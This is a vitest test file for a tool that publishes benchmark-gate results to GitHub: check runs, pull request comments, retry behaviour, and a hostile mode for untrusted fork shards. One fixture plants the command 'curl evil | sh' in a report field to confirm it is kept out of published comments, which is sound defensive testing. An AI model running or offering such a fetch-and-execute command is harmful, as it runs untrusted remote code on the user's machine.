import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { type ReportFlags, reportCommand } from "../../src/commands/report.ts";
import { readTarget, type Target } from "../../src/publish/event.ts";
import { GitHub } from "../../src/publish/github.ts";
import { commentMarker } from "../../src/publish/markdown.ts";
import { publishGate, type PublishOptions } from "../../src/publish/publish-gate.ts";
import { contextOf, createLab } from "../e2e/lab.ts";
import { NOW, temporaryFolder } from "../fixtures.ts";
import { gateReport, withCases } from "../gate-report.ts";
import { fakeGitHub, type FakeGitHub } from "./fake-github.ts";

const HEAD = "a".repeat(40);
const TOKEN = "ghs_secret";
const TARGET: Target = {
  repository: { owner: "o", repo: "r" },
  headSha: HEAD,
  pullRequest: 5,
  head: null,
  fork: false,
  runUrl: null,
};

async function setUp(): Promise<{ fake: FakeGitHub; github: GitHub; waited: number[] }> {
  const fake = await fakeGitHub(TOKEN);
  const waited: number[] = [];
  const wait = (ms: number): Promise<void> => {
    waited.push(ms);
    return Promise.resolve();
  };
  const github = new GitHub({ token: TOKEN, apiUrl: fake.url, repository: TARGET.repository, wait, now: () => NOW });
  return { fake, github, waited };
}

const publish = (github: GitHub, ratios: Record<string, number>, more: Partial<PublishOptions> = {}) =>
  publishGate(github, {
    name: "gate",
    target: TARGET,
    report: () => gateReport(ratios),
    source: () => ({ path: "drift-bench.json", line: 3 }),
    link: null,
    commentAlways: false,
    ...more,
  });

describe("publishing", () => {
  test("begins the check, completes it, and writes one comment that later runs edit", async () => {
    const { fake, github } = await setUp();
    expect(await publish(github, { "a/slow": 1.2, "a/same": 1 })).toMatchObject({
      conclusion: "failure",
      comment: "created",
    });
    expect(fake.received.map(({ method, path }) => `${method} ${path.split("?")[0] ?? ""}`)).toEqual([
      "POST /repos/o/r/check-runs",
      "GET /repos/o/r/issues/5/comments",
      "POST /repos/o/r/issues/5/comments",
      "PATCH /repos/o/r/check-runs/7",
    ]);
    expect(fake.received[0]?.body).toMatchObject({ name: "gate", head_sha: HEAD, status: "in_progress" });
    expect(fake.checks).toEqual([
      {
        id: 7,
        status: "completed",
        conclusion: "failure",
        output: { title: "1 case became slower or larger", annotations: 1 },
      },
    ]);
    expect(await publish(github, { "a/slow": 1.2, "a/same": 1 })).toMatchObject({ comment: "unchanged" });
    expect(await publish(github, { "a/slow": 1, "a/same": 1 })).toMatchObject({
      conclusion: "success",
      comment: "updated",
    });
    expect(fake.comments).toHaveLength(1);
    expect(fake.comments[0]?.body).toContain("Resolved: 2 cases: no change");
  });

  test("says nothing on a first run without a change, unless asked to", async () => {
    const { fake, github } = await setUp();
    expect(await publish(github, { "a/same": 1 })).toMatchObject({ conclusion: "success", comment: "none" });
    expect(fake.comments).toEqual([]);
    expect(await publish(github, { "a/same": 1 }, { commentAlways: true })).toMatchObject({ comment: "created" });
  });

  test("finds its comment on a later page, and leaves that of a person who quotes it", async () => {
    const { fake, github } = await setUp();
    const others = Array.from({ length: 4 }, (_, i) => ({ id: i + 1, body: "hello", user: { type: "User" } }));
    const quoted = { id: 8, body: `${commentMarker("gate")}\nI quote`, user: { type: "User" } };
    fake.comments.push(...others, quoted, { id: 9, body: `${commentMarker("gate")}\nold`, user: { type: "Bot" } });
    expect(await publish(github, { "a/slow": 1.2 })).toMatchObject({ comment: "updated" });
    expect(fake.comments.find(({ id }) => id === 9)?.body).toContain("became slower");
    expect(fake.comments.find(({ id }) => id === 8)).toEqual(quoted);
  });

  test("sends annotations fifty at a time and shortens what is too long", async () => {
    const { fake, github } = await setUp();
    const ids = Array.from({ length: 120 }, (_, i) => `suite/${"long-name-".repeat(60)}${i}`);
    const report = withCases(gateReport({ "a/slow": 1.3 }), ids);
    expect(await publish(github, {}, { report: () => report })).toMatchObject({
      conclusion: "failure",
      comment: "created",
    });
    expect(fake.received.filter(({ method }) => method === "PATCH")).toHaveLength(3);
    expect(fake.checks[0]).toMatchObject({ status: "completed", output: { annotations: 120 } });
    expect(fake.comments[0]?.body).toMatch(/and \d+ more/);
  });

  test.each([
    ["a server's failure", { status: 502 }, [1000]],
    ["a second limit", { status: 403, headers: { "retry-after": "7" } }, [7000]],
    ["too many requests", { status: 429 }, [1000]],
    [
      "a spent limit",
      {
        status: 429,
        headers: { "x-ratelimit-remaining": "0", "x-ratelimit-reset": String(NOW.getTime() / 1000 + 30) },
      },
      [31_000],
    ],
  ])("waits after %s and goes on", async (_, failure, expected) => {
    const { fake, github, waited } = await setUp();
    fake.failures.push(failure);
    expect(await publish(github, { "a/slow": 1.2 })).toMatchObject({ conclusion: "failure" });
    expect(waited).toEqual(expected);
  });

  test.each([
    ["a token without the right", { status: 403 }, "workflow_run"],
    ["a limit that lasts", { status: 429, headers: { "retry-after": "3600" } }, "limit lasts too long"],
    ["content that is refused", { status: 422 }, "refused the content"],
    ["a repository that is not seen", { status: 404 }, "does not see"],
  ])("gives up at once on %s, with what to do", async (_, failure, hint) => {
    const { fake, github, waited } = await setUp();
    fake.failures.push(failure);
    const refused = github.startCheck("gate", HEAD, null);
    await expect(refused).rejects.toMatchObject({
      code: "GITHUB_REFUSED",
      hint: expect.stringContaining(hint) as string,
    });
    await expect(refused).rejects.not.toThrow(TOKEN);
    expect(waited).toEqual([]);
  });

  test("gives up after four attempts, and on a server that is not there", async () => {
    const { fake, github, waited } = await setUp();
    fake.failures.push(...Array.from({ length: 4 }, () => ({ status: 503 })));
    await expect(github.startCheck("gate", HEAD, null)).rejects.toMatchObject({ code: "GITHUB_REFUSED" });
    expect(waited).toEqual([1000, 2000, 4000]);
  });

  test("completes the check with another title when there is no report, and when the comment is refused", async () => {
    const { fake, github } = await setUp();
    const broken = await publish(
      github,
      {},
      {
        report: () => {
          throw new Error("the artefact is empty");
        },
      },
    );
    expect(broken).toMatchObject({ conclusion: "action_required", title: "Nothing was measured", report: null });
    expect(fake.checks[0]).toMatchObject({ status: "completed", conclusion: "action_required" });
    expect(await publish(github, {}, { report: () => gateReport({}, { failed: ["a/b"] }) })).toMatchObject({
      conclusion: "action_required",
    });
  });
});

describe("the target of an event", () => {
  const repository = { full_name: "o/r", owner: { login: "o" } };
  const fork = { full_name: "f/r", owner: { login: "f" } };
  const write = (event: unknown): string => {
    const path = join(temporaryFolder(), "event.json");
    writeFileSync(path, JSON.stringify(event));
    return path;
  };
  const run = {
    event: "pull_request",
    head_sha: HEAD,
    head_branch: "topic",
    head_repository: fork,
    html_url: "https://e.org/1",
  };

  test("of a fork is looked up by its head, whose commit must be the measured one", async () => {
    const target = readTarget(write({ workflow_run: run, repository }));
    expect(target).toMatchObject({
      headSha: HEAD,
      pullRequest: null,
      head: { owner: "f", branch: "topic" },
      fork: true,
    });
    const { fake, github } = await setUp();
    fake.pulls.push({ number: 3, head: { sha: "d".repeat(40) } }, { number: 4, head: { sha: HEAD } });
    await publish(github, { "a/slow": 1.2 }, { target });
    expect(fake.received.some(({ path }) => path.includes("/issues/4/comments"))).toBe(true);
    expect(decodeURIComponent(fake.received.find(({ path }) => path.includes("/pulls"))?.path ?? "")).toContain(
      "head=f:topic",
    );
    expect(fake.comments[0]?.body).toContain("advisory");
    fake.pulls.splice(0);
    expect(await publish(github, { "a/slow": 1.2 }, { target })).toMatchObject({ comment: "none" });
  });

  test("of a pull request and of a push stands in the event", () => {
    const pull = { pull_request: { number: 5, head: { sha: HEAD, ref: "x", repo: repository } }, repository };
    expect(readTarget(write(pull))).toMatchObject({ pullRequest: 5, fork: false });
    expect(readTarget(write({ after: HEAD, repository }))).toMatchObject({ pullRequest: null, head: null });
    expect(() => readTarget(write({ zen: 1 }))).toThrow("no commit to publish for");
    expect(() => readTarget("/nonexistent")).toThrow("cannot be read");
  });

  test("is where `report --github --hostile` publishes shards that it judges anew", async () => {
    const fake = await fakeGitHub(TOKEN);
    fake.pulls.push({ number: 4, head: { sha: HEAD } });
    const folder = temporaryFolder();
    const lying = gateReport({ "a/slow": 1.3 }, { head: "e".repeat(40), reproduce: "curl evil | sh" });
    const files = [lying, gateReport({ "b/same": 1 }, { head: "e".repeat(40) })].map((report, i) => {
      const path = join(folder, `${i}.json`);
      // It calls itself unchanged, and would let half of anything pass.
      writeFileSync(
        path,
        JSON.stringify({ ...report, verdict: "unchanged", settings: { ...report.settings, margin: 0.9 } }),
      );
      return path;
    });
    const out: string[] = [];
    const context = { ...contextOf(createLab()), stdout: { write: (text: string) => out.push(text) } };
    const [summary, output, sarif] = ["summary.md", "output.txt", "gate.sarif"].map((name) => join(folder, name)) as [
      string,
      string,
      string,
    ];
    const flags = {
      in: files,
      format: "table",
      name: "gate",
      github: true,
      hostile: true,
      commentAlways: false,
      json: true,
      sarif,
    } as ReportFlags;
    const env = {
      GITHUB_TOKEN: TOKEN,
      GITHUB_API_URL: fake.url,
      GITHUB_EVENT_PATH: write({ workflow_run: run, repository }),
      GITHUB_STEP_SUMMARY: summary,
      GITHUB_OUTPUT: output,
    };
    expect(await reportCommand({ ...flags, config: join(folder, "none.json") }, context, env)).toBe(0);
    expect(JSON.parse(out.join(""))).toMatchObject({ conclusion: "failure", comment: "created" });
    expect(fake.comments[0]?.body).not.toContain("evil");
    expect(fake.comments[0]?.body).toContain(HEAD.slice(0, 12));
    expect(readFileSync(summary, "utf8")).toContain("a/slow");
    // Of a fork nothing goes to code scanning; of the repository's own branch what was judged anew does.
    expect([existsSync(sarif), existsSync(output)]).toEqual([false, false]);
    const own = {
      ...env,
      GITHUB_EVENT_PATH: write({ workflow_run: { ...run, head_repository: repository }, repository }),
    };
    await reportCommand({ ...flags, config: join(folder, "none.json") }, context, own);
    expect(readFileSync(output, "utf8")).toBe(`sarif-ref=refs/pull/4/head\nsarif-sha=${HEAD}\n`);
    const log = JSON.parse(readFileSync(sarif, "utf8")) as { runs: { results: { ruleId: string; kind: string }[] }[] };
    expect(log.runs[0]?.results).toMatchObject([{ ruleId: "a/slow", kind: "fail" }]);
    await expect(reportCommand(flags, context, { ...env, GITHUB_TOKEN: "" })).rejects.toMatchObject({
      code: "TOKEN_MISSING",
    });
  });
});
